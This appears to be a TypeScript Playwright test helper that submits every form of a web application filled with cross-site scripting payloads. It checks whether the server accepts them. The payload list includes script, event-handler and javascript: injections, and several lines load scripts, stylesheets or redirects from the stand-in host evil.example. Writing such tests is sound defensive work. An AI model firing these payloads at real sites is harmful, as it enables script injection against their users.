/** Fills every form of the office with what an attacker would type. */
import type { Page } from 'playwright-core'

/** Each would leave an element, a handler or a mark behind if it were ever taken for markup. */
export const PAYLOADS: readonly string[] = [
  '<script>xss=1</script>',
  '<script src=//evil.example/x.js></script>',
  '</script><script>xss=1</script>',
  '<img src=x onerror=xss=1>',
  '<img src=x onerror="alert(1)">',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  '" autofocus onfocus=alert(1) x="',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '</textarea><img src=x onerror=alert(1)>',
  '</title><img src=x onerror=alert(1)>',
  '</style><img src=x onerror=alert(1)>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '--><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)}',
  '＜img src=x onerror=alert(1)＞',
  '<img/src=`x`onerror=alert(1)>',
  '=HYPERLINK("javascript:alert(1)")',
]

/** As many payloads as a field holds, another lot at each turn. */
export function filling(turn: number, room: number): string {
  let text = ''
  for (let i = 0; i < PAYLOADS.length; i++) {
    const next = PAYLOADS[(turn * 7 + i) % PAYLOADS.length]!
    if (text.length + next.length + 1 > room) break
    text += ` ${next}`
  }
  return text.trim() || PAYLOADS[turn % PAYLOADS.length]!.slice(0, room)
}

type Field = {
  readonly name: string
  readonly kind: 'text' | 'area' | 'given' | 'files'
  readonly values: readonly string[]
  readonly room: number
  readonly invalid: boolean
}
export type Form = { readonly action: string; readonly multipart: boolean; readonly fields: readonly Field[] }

/** @param blank a page without a policy: only there a text can be parsed */
export function formsOf(blank: Page, html: string): Promise<Form[]> {
  return blank.evaluate<Form[]>(`(() => {
    const doc = new DOMParser().parseFromString(${JSON.stringify(html)}, 'text/html')
    const kindOf = (type) =>
      type === 'file' ? 'files' : type === 'textarea' ? 'area' : ['text', 'search', 'email', 'url', 'tel'].includes(type) ? 'text' : 'given'
    return [...doc.querySelectorAll('form[method=post]')].map((form) => ({
      action: form.getAttribute('action'),
      multipart: form.getAttribute('enctype') === 'multipart/form-data',
      fields: [...form.querySelectorAll('input[name],textarea[name],select[name]')].flatMap((e) => {
        const type = e.localName === 'input' ? e.type : e.localName
        if ((type === 'radio' || type === 'checkbox') && !e.checked) return []
        const options = [...e.querySelectorAll('option')].map((o) => o.value)
        const kind = kindOf(type)
        return [{
          name: e.name,
          kind,
          values: options.length > 0 ? options : [e.value],
          room: kind === 'area' ? 4000 : 280,
          invalid: e.hasAttribute('aria-invalid'),
        }]
      }),
    }))
  })()`)
}

/** What is tried in a field that refused the payloads, one after another. */
const PLAIN: readonly string[] = [
  '02.03.2026',
  '1',
  'x@example.com',
  '2026',
  '12345678',
  'https://example.com/?q="><img src=x onerror=alert(1)>',
]

/**
 * Sends a form until it is taken, with payloads wherever they are taken.
 * @param send gives the page that comes back, null when the form was taken
 */
export async function poison(
  blank: Page,
  form: Form,
  turn: number,
  send: (form: Form, values: readonly (readonly [string, string])[]) => Promise<string | null>,
): Promise<boolean> {
  const values = new Map<string, string[]>()
  form.fields.forEach((field, i) => {
    if (field.kind === 'files') return
    const given = field.values.find((v) => v !== '') ?? ''
    const value = field.kind === 'given' ? given : filling(turn + i, field.room)
    values.set(field.name, [...(values.get(field.name) ?? []), value])
  })
  for (const plain of [...PLAIN, null]) {
    const sent = [...values].flatMap(([name, all]) => all.map((value) => [name, value] as const))
    const again = await send(form, sent)
    if (again === null) return true
    if (plain === null) return false
    const back = (await formsOf(blank, again)).find((f) => f.action === form.action)
    const wrong = back?.fields.filter((f) => f.invalid) ?? []
    for (const field of wrong) {
      if (field.kind === 'given') values.set(field.name, [field.values.find((v) => v !== '') ?? ''])
      else values.set(field.name, [plain])
    }
    if (wrong.length === 0) return false
  }
  return false
}
